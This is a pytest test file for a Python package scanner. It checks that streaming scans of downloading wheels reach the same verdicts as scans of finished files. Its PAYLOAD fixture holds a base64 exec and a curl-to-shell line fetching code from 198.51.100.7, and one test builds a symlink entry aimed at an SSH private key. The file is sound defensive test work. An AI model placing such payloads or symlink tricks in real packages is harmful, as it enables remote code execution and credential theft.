"""Scanning a wheel while it downloads reaches the verdict of scanning the finished file.

`scan_streaming` reads a file that another writer is still appending to and
confirms its reading against the central directory at the end. Each test
compares it with `scan_target` on the same bytes: for ordinary wheels the
streamed reading must be confirmed (no second scan), and for every trick that
makes local headers and the central directory disagree it must fall back to
the ordinary reader, so the verdict never differs.
"""

from __future__ import annotations

import io
import os
import stat
import struct
import threading
import time
import zipfile
from pathlib import Path

import pytest

from pycustoms.analyzers.code.analyze import analyze_package
from pycustoms.archive import looks_native
from pycustoms.archive.stream import (
    COMPLETE_MARKER,
    FAILED_MARKER,
    LENGTH,
    LENGTH_MARKER,
    DownloadFailed,
    GrowingFile,
    StreamedWheel,
)
from pycustoms.archive.walk import ArchiveWalker
from pycustoms.config import Policy
from pycustoms.scan import BINARY_HEAD_BYTES, limits_for, scan_streaming, scan_target
from pycustoms.types import Decision, PackageKind, ScanResult
from tests.builders import build_wheel
from tests.samples.benign import BENIGN
from tests.samples.malicious import MALICIOUS

PAYLOAD = (
    "import base64, os\n"
    "exec(base64.b64decode('aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2VjaG8gaGknKQ=='))\n"
    "os.system('curl -s http://198.51.100.7/x | sh')\n"
)


def _key(result: ScanResult) -> tuple[object, ...]:
    verdict = result.verdict
    findings = sorted(
        (f.rule, f.file or "", f.line or 0, f.severity.value, f.message) for f in verdict.findings
    )
    return (
        verdict.decision,
        verdict.score,
        findings,
        result.files_scanned,
        result.bytes_scanned,
        result.error is None,
    )


def _complete(path: Path) -> Path:
    """Put *path* in a folder of its own with the marker of a finished download."""
    folder = path.parent / f"stream-{path.name}"
    folder.mkdir()
    target = folder / path.name
    os.link(path, target)
    (folder / COMPLETE_MARKER).write_text(str(target.stat().st_size))
    return target


def _streamed(path: Path) -> StreamedWheel:
    """Read the finished wheel at *path* as a stream; return the reading after `confirm`."""
    limits = limits_for(Policy())
    walker = ArchiveWalker(limits, [], BINARY_HEAD_BYTES, looks_native)
    with GrowingFile(path, stall_seconds=5) as source:
        stream = StreamedWheel(source, walker)
        analyze_package(PackageKind.WHEEL, stream.members(), limits=limits)
        stream.confirm()
    return stream


def _same_verdict(path: Path) -> StreamedWheel:
    """Assert both readers agree on *path* (finished); return the streamed reading."""
    target = _complete(path)
    expected = scan_target(target, Policy())
    assert _key(scan_streaming(target, Policy())) == _key(expected)
    return _streamed(target)


def _wheels(samples: tuple, directory: Path) -> list[Path]:  # type: ignore[type-arg]
    out = []
    for sample in samples:
        if "wheel" in sample.kinds():
            folder = directory / sample.id
            folder.mkdir()
            out.append(sample.assemble(folder, "wheel"))
    return out


# -- equivalence on ordinary wheels ------------------------------------------------------------


def test_every_sample_wheel_gets_the_same_verdict_without_a_second_scan(tmp_path: Path) -> None:
    wheels = _wheels(MALICIOUS + BENIGN, tmp_path)
    assert len(wheels) > 100
    blocked = 0
    for wheel in wheels:
        stream = _same_verdict(wheel)
        assert stream.failed is None, (wheel.name, stream.failed)
        blocked += scan_target(wheel, Policy()).verdict.decision is Decision.BLOCK
    assert blocked > 50  # the malicious half is blocked through this path too


def test_stored_members_large_binaries_and_nested_archives(tmp_path: Path) -> None:
    inner = io.BytesIO()
    with zipfile.ZipFile(inner, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("hidden/run.py", PAYLOAD)
    files: dict[str, str | bytes] = {
        "pkg/__init__.py": "VALUE = 1\n",
        "pkg/native.so": b"\x7fELF" + os.urandom(BINARY_HEAD_BYTES * 3),
        "pkg/fixtures/bundle.zip": inner.getvalue(),
    }
    wheel = build_wheel(tmp_path, "mixed", "1.0", files)
    stored = tmp_path / "stored"
    stored.mkdir()
    copy = stored / wheel.name
    with zipfile.ZipFile(wheel) as source, zipfile.ZipFile(copy, "w", zipfile.ZIP_STORED) as out:
        for info in source.infolist():
            out.writestr(info.filename, source.read(info))
    for path in (wheel, copy):
        stream = _same_verdict(path)
        assert stream.failed is None
    result = scan_target(wheel, Policy())
    assert any(f.file and "bundle.zip!" in f.file for f in result.verdict.findings)


def test_the_scan_follows_a_file_that_is_still_growing(tmp_path: Path) -> None:
    sample = next(s for s in MALICIOUS if "wheel" in s.kinds())
    wheel = sample.assemble(tmp_path, "wheel")
    extra = {f"pkg/mod{i}.py": f"def f{i}(x):\n    return x + {i}\n" * 50 for i in range(40)}
    big = build_wheel(tmp_path, "growing", "1.0", {**extra, "growing/__init__.py": PAYLOAD})
    for path in (wheel, big):
        folder = tmp_path / f"live-{path.name}"
        folder.mkdir()
        target = folder / path.name
        target.touch()
        writer = threading.Thread(target=_trickle, args=(target, path.read_bytes()))
        writer.start()
        streamed = scan_streaming(target, Policy())
        writer.join()
        assert _key(streamed) == _key(scan_target(path, Policy()))
        assert streamed.verdict.decision is Decision.BLOCK


def _trickle(target: Path, data: bytes, *, step: int = 997) -> None:
    """Write *data* over *target* from its start as a download does, publishing the length."""
    length = target.parent / LENGTH_MARKER
    with target.open("r+b") as out:
        for start in range(0, len(data), step):
            out.write(data[start : start + step])
            out.flush()
            length.write_bytes(LENGTH.pack(start + len(data[start : start + step])))
            time.sleep(0.0005)
        out.truncate(len(data))
    (target.parent / COMPLETE_MARKER).write_text(str(len(data)))


def test_bytes_past_the_published_length_are_never_read(tmp_path: Path) -> None:
    # A download that overwrites a longer, pre-written spare: the spare here holds a
    # malicious wheel, which the scan must not see while the benign one arrives over it.
    sample = next(s for s in MALICIOUS if "wheel" in s.kinds())
    bad = sample.assemble(tmp_path, "wheel").read_bytes()
    good = build_wheel(tmp_path, "fine", "1.0", {"fine/__init__.py": "VALUE = 1\n"})
    data = good.read_bytes()
    assert len(bad) > len(data)
    folder = tmp_path / "spare"
    folder.mkdir()
    target = folder / good.name
    target.write_bytes(bad)
    writer = threading.Thread(target=_trickle, args=(target, data), kwargs={"step": 101})
    writer.start()
    streamed = scan_streaming(target, Policy())
    writer.join()
    assert streamed.error is None
    assert _key(streamed) == _key(scan_target(good, Policy()))
    assert streamed.verdict.decision is Decision.ALLOW
    # Without a published length nothing counts as written, however long the file is.
    (folder / COMPLETE_MARKER).unlink()
    (folder / LENGTH_MARKER).unlink()
    target.write_bytes(bad)
    with GrowingFile(target, stall_seconds=0.2) as source, pytest.raises(DownloadFailed):
        source.pread(0, 4)


# -- disagreements fall back to the ordinary reader ----------------------------------------------


def _entries(data: bytes) -> list[int]:
    """Offsets of the local headers in *data* (a zip without stored archives inside)."""
    return [i for i in range(len(data) - 3) if data[i : i + 4] == b"PK\x03\x04"]


def test_a_local_entry_missing_from_the_directory_is_refused(tmp_path: Path) -> None:
    # Local headers of one zip in front of another: a central-directory reader sees
    # only the second zip, a reader that walks local headers sees the first too. Both
    # readings are refused alike (one file, one meaning: `archive.layout`).
    hidden = io.BytesIO()
    with zipfile.ZipFile(hidden, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("evil/__init__.py", PAYLOAD)
    head = hidden.getvalue()
    locals_only = head[: head.index(b"PK\x01\x02")]
    wheel = build_wheel(tmp_path, "front", "1.0", {"front/__init__.py": "VALUE = 1\n"})
    path = tmp_path / "concat" / wheel.name
    path.parent.mkdir()
    path.write_bytes(locals_only + wheel.read_bytes())
    stream = _same_verdict(path)
    assert stream.failed is not None
    result = scan_target(path, Policy())
    assert result.verdict.decision is Decision.BLOCK
    assert any("precede the first zip entry" in f.message for f in result.verdict.findings)


def test_a_symlink_entry_is_refused_as_by_the_ordinary_reader(tmp_path: Path) -> None:
    path = tmp_path / "link-1.0-py3-none-any.whl"
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("link/__init__.py", "VALUE = 1\n")
        info = zipfile.ZipInfo("link/creds")
        info.create_system = 3
        info.external_attr = (stat.S_IFLNK | 0o777) << 16
        archive.writestr(info, "/root/.ssh/id_rsa")
    stream = _same_verdict(path)
    assert stream.failed is not None
    assert "link" in stream.failed
    assert scan_target(path, Policy()).verdict.decision is Decision.BLOCK


def test_a_local_header_that_lies_about_the_crc_falls_back(tmp_path: Path) -> None:
    wheel = build_wheel(tmp_path, "crc", "1.0", {"crc/__init__.py": PAYLOAD})
    data = bytearray(wheel.read_bytes())
    first = _entries(bytes(data))[0]
    struct.pack_into("<L", data, first + 14, 0x12345678)
    path = tmp_path / "lie" / wheel.name
    path.parent.mkdir()
    path.write_bytes(bytes(data))
    stream = _same_verdict(path)
    assert stream.failed is not None


def test_data_descriptors_fall_back(tmp_path: Path) -> None:
    class Unseekable(io.RawIOBase):
        def __init__(self) -> None:
            self.data = bytearray()

        def writable(self) -> bool:
            return True

        def write(self, chunk: bytes) -> int:  # type: ignore[override]
            self.data += chunk
            return len(chunk)

    sink = Unseekable()
    with zipfile.ZipFile(sink, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("desc/__init__.py", PAYLOAD)
        archive.writestr("desc-1.0.dist-info/METADATA", "Name: desc\nVersion: 1.0\n")
    path = tmp_path / "desc-1.0-py3-none-any.whl"
    path.write_bytes(bytes(sink.data))
    with zipfile.ZipFile(path) as archive:
        assert all(info.flag_bits & 0x08 for info in archive.infolist())
    stream = _same_verdict(path)
    assert stream.failed is not None
    assert "flags" in stream.failed


@pytest.mark.parametrize("cut", [0.3, 0.9, 0.999])
def test_a_truncated_download_is_judged_as_the_finished_file_is(tmp_path: Path, cut: float) -> None:
    wheel = build_wheel(tmp_path, "cut", "1.0", {"cut/__init__.py": "VALUE = 1\n" * 500})
    data = wheel.read_bytes()
    path = tmp_path / f"cut{cut}" / wheel.name
    path.parent.mkdir()
    path.write_bytes(data[: int(len(data) * cut)])
    _same_verdict(path)
    assert scan_target(path, Policy()).verdict.decision is Decision.BLOCK  # unscannable


# -- failed downloads --------------------------------------------------------------------------


def _partial(tmp_path: Path) -> tuple[Path, Path]:
    wheel = build_wheel(tmp_path, "part", "1.0", {"part/__init__.py": "VALUE = 1\n" * 2000})
    folder = tmp_path / "partial"
    folder.mkdir()
    target = folder / wheel.name
    target.write_bytes(wheel.read_bytes()[:600])
    return target, folder


def test_a_failed_download_gives_an_error_not_a_verdict(tmp_path: Path) -> None:
    target, folder = _partial(tmp_path)
    threading.Timer(0.2, (folder / FAILED_MARKER).write_text, args=("",)).start()
    started = time.monotonic()
    result = scan_streaming(target, Policy())
    assert time.monotonic() - started < 5
    assert result.error is not None
    assert "did not complete" in result.error
    assert result.verdict.decision is Decision.BLOCK


def test_a_removed_download_stops_the_scan(tmp_path: Path) -> None:
    target, _ = _partial(tmp_path)
    threading.Timer(0.2, target.unlink).start()
    result = scan_streaming(target, Policy())
    assert result.error is not None
    assert "did not complete" in result.error


def test_a_stalled_download_stops_the_scan(tmp_path: Path) -> None:
    target, _ = _partial(tmp_path)
    started = time.monotonic()
    result = scan_streaming(target, Policy(), stall_seconds=0.3)
    assert 0.3 <= time.monotonic() - started < 5
    assert result.error is not None
    assert "stalled" in result.error


def test_growing_file_waits_and_reports_the_final_size(tmp_path: Path) -> None:
    path = tmp_path / "grow.bin"
    path.write_bytes(b"a" * 10)

    (tmp_path / LENGTH_MARKER).write_bytes(LENGTH.pack(10))

    def finish() -> None:
        with path.open("ab") as out:
            out.write(b"b" * 10)
        (tmp_path / LENGTH_MARKER).write_bytes(LENGTH.pack(20))
        (tmp_path / COMPLETE_MARKER).write_text("20")

    threading.Timer(0.1, finish).start()
    with GrowingFile(path, stall_seconds=5) as source:
        assert source.pread(5, 10) == b"aaaaabbbbb"
        assert source.complete() == 20
        assert source.peek(15, 100) == b"bbbbb"
        assert not source.wait_for(21)
    (tmp_path / COMPLETE_MARKER).unlink()
    (tmp_path / FAILED_MARKER).write_text("")
    with GrowingFile(path, stall_seconds=5) as source, pytest.raises(DownloadFailed):
        source.pread(15, 10)
